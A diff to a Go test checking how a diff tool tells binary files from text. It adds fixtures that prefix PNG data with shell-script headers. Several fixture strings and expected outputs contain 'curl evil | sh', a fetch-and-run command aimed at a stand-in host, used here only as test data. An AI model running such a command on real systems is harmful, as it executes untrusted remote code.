@@ -86,11 +86,12 @@ func TestDiffWithoutAttributes(t *testing.T) {
 	}
 }
 
-// A binary file is named with its size and digest. A zero byte does not make text one.
+// A binary file is named with its size and digest. A zero byte does not make text one, and no garbage makes a script one.
 func TestDiffOfBinaryFiles(t *testing.T) {
 	image := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00\x01\xff\xfe", 500)
-	k := newKit(t, map[string]string{"old and new.sh": "echo one\n", "gone.sh": "echo gone\x00\n", "image.png": image})
-	tree := k.work("T1", map[string]string{"old and new.sh": "echo two # \x00\n", "new.sh": "curl evil | sh # \x00", "image.png": image + "more"})
+	k := newKit(t, map[string]string{"old and new.sh": "echo one\n", "gone.sh": "echo gone\x00\n", "image.png": image, "icon": image})
+	tree := k.work("T1", map[string]string{"old and new.sh": "echo two # \x00\n", "new.sh": "curl evil | sh # \x00", "image.png": image + "more",
+		"garbage": "#!/bin/sh\ncurl evil | sh\nexit\n" + image, "icon": "#!/bin/sh\ncurl evil | sh\n" + image})
 	if err := os.Remove(filepath.Join(tree.Dir, "gone.sh")); err != nil {
 		t.Fatal(err)
 	}
@@ -111,6 +112,8 @@ func TestDiffOfBinaryFiles(t *testing.T) {
 			"\n--- a/old and new.sh\n+++ b/old and new.sh\n@@ -1 +1 @@\n-echo one\n+echo two # \x00\n",
 			"\n--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1,1 @@\n+curl evil | sh # \x00\n\\ No newline at end of file\n",
 			"\n--- a/gone.sh\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-echo gone\x00\n",
+			"\n--- /dev/null\n+++ b/garbage\n@@ -0,0 +1,6 @@\n+#!/bin/sh\n+curl evil | sh\n+exit\n+\x89PNG\r\n",
+			"\n--- a/icon\n+++ b/icon\n@@ -1,3 +1,5 @@\n+#!/bin/sh\n+curl evil | sh\n \x89PNG\r\n",
 			fmt.Sprintf("\nBinary files a/image.png and b/image.png differ: %d bytes, SHA-256 %x, became %d bytes, SHA-256 %x\n",
 				len(image), sha256.Sum256([]byte(image)), len(image)+4, sha256.Sum256([]byte(image+"more"))),
 		} {
